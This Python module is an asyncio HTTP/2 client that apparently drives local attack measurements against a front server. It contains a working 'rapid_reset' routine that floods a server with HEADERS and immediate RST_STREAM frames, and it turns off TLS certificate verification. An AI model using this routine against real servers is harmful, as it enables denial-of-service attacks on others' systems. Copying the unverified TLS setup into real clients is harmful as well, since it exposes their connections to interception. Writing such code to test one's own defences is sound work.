"""A small asyncio HTTP/2 client on the `h2` state machine, for the attack measurements (tools/front_attacks.py).

It can do what httpx will not: open many streams on one connection as fast as the peer allows,
reset them at once (the rapid-reset shape), and bind a chosen loopback source address, so the
front sees the attacker and the classmate as two different clients (127.0.0.2 and 127.0.0.3).
"""

import asyncio
import contextlib
import ssl
import time
from dataclasses import dataclass, field

import h2.config
import h2.connection
import h2.events
import h2.exceptions

__all__ = ["Answer", "H2Client", "insecure_context"]


def insecure_context(alpn: list[str]) -> ssl.SSLContext:
    """The front's certificate comes from its own local CA: the measurements do not verify it."""
    context = ssl.create_default_context()
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    context.set_alpn_protocols(alpn)
    return context


@dataclass
class Answer:
    """One stream's fate: its status (0 if none came), whether it was reset, and the seconds to its head."""

    status: int = 0
    reset: bool = False
    seconds: float = 0.0
    body: bytes = b""
    started: float = field(default_factory=time.perf_counter)


class H2Client:
    """One HTTP/2 connection over TLS; `request()` waits for a free stream slot when the peer's limit is reached."""

    def __init__(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        self.reader, self.writer = reader, writer
        self.conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
        self.answers: dict[int, Answer] = {}
        self.done: dict[int, asyncio.Event] = {}
        self.goaway_at: float | None = None
        self.goaway_last_stream: int | None = None
        self.closed = asyncio.Event()
        self.slot_freed = asyncio.Event()
        self._pump: asyncio.Task[None] | None = None

    @classmethod
    async def open(cls, host: str, port: int, source: str, server_name: str = "localhost") -> "H2Client":
        reader, writer = await asyncio.open_connection(
            host, port, ssl=insecure_context(["h2"]), server_hostname=server_name, local_addr=(source, 0)
        )
        client = cls(reader, writer)
        client.conn.initiate_connection()
        client.conn.increment_flow_control_window(2**30)
        await client.flush()
        client._pump = asyncio.create_task(client._read())
        return client

    async def flush(self) -> None:
        data = self.conn.data_to_send()
        if data:
            self.writer.write(data)
            await self.writer.drain()

    async def _read(self) -> None:
        try:
            while True:
                data = await self.reader.read(65536)
                if not data:
                    break
                try:
                    events = self.conn.receive_data(data)
                except h2.exceptions.ProtocolError:
                    break
                for event in events:
                    self._on(event)
                with contextlib.suppress(ConnectionError):
                    await self.flush()
        except (ConnectionError, ssl.SSLError, OSError):
            pass
        finally:
            self.closed.set()
            for sid, finished in self.done.items():
                if not finished.is_set():
                    self.answers[sid].reset = True
                    finished.set()
            self.slot_freed.set()

    def _on(self, event: h2.events.Event) -> None:
        if isinstance(event, h2.events.ResponseReceived) and event.stream_id in self.answers:
            answer = self.answers[event.stream_id]
            answer.status = int(dict(event.headers)[b":status"])
            answer.seconds = time.perf_counter() - answer.started
        elif isinstance(event, h2.events.DataReceived):
            if event.stream_id in self.answers:
                self.answers[event.stream_id].body += event.data
            self.conn.acknowledge_received_data(event.flow_controlled_length, event.stream_id)
        elif isinstance(event, h2.events.StreamEnded | h2.events.StreamReset):
            if isinstance(event, h2.events.StreamReset) and event.stream_id in self.answers:
                self.answers[event.stream_id].reset = True
            if event.stream_id in self.done:
                self.done[event.stream_id].set()
            self.slot_freed.set()
        elif isinstance(event, h2.events.ConnectionTerminated):
            self.goaway_at = time.perf_counter()
            self.goaway_last_stream = event.last_stream_id

    def headers(self, method: str, path: str, body: bytes | None) -> list[tuple[str, str]]:
        head = [(":method", method), (":scheme", "https"), (":authority", "localhost"), (":path", path)]
        if body is not None:
            head += [("content-type", "application/json"), ("content-length", str(len(body)))]
        return head

    async def request(self, method: str, path: str, body: bytes | None = None, limit_s: float = 60.0) -> Answer:
        """One stream to its end (or reset, or the connection's end, or `limit_s`: status 0)."""
        while True:
            if self.closed.is_set():
                return Answer(reset=True)
            try:
                sid = self.conn.get_next_available_stream_id()
                answer, done = Answer(), asyncio.Event()
                self.conn.send_headers(sid, self.headers(method, path, body), end_stream=body is None)
                break
            except h2.exceptions.TooManyStreamsError:
                self.slot_freed.clear()
                await self.slot_freed.wait()
        self.answers[sid], self.done[sid] = answer, done
        if body is not None:
            self.conn.send_data(sid, body, end_stream=True)
        with contextlib.suppress(ConnectionError):
            await self.flush()
        with contextlib.suppress(TimeoutError):
            await asyncio.wait_for(done.wait(), limit_s)
        return answer

    async def rapid_reset(self, pairs: int, path: str, batch: int = 100) -> int:
        """HEADERS then RST_STREAM, `pairs` times, as fast as the socket takes them; how many went out."""
        sent = 0
        while sent < pairs and not self.closed.is_set() and self.goaway_at is None:
            for _ in range(min(batch, pairs - sent)):
                sid = self.conn.get_next_available_stream_id()
                self.conn.send_headers(sid, self.headers("GET", path, None), end_stream=True)
                self.conn.reset_stream(sid)
                sent += 1
            try:
                await self.flush()
            except (ConnectionError, ssl.SSLError, OSError):
                break
        return sent

    async def close(self) -> None:
        with contextlib.suppress(Exception):
            self.conn.close_connection()
            await self.flush()
        self.writer.close()
        with contextlib.suppress(Exception):
            await self.writer.wait_closed()
        if self._pump is not None:
            self._pump.cancel()
            with contextlib.suppress(asyncio.CancelledError):
                await self._pump
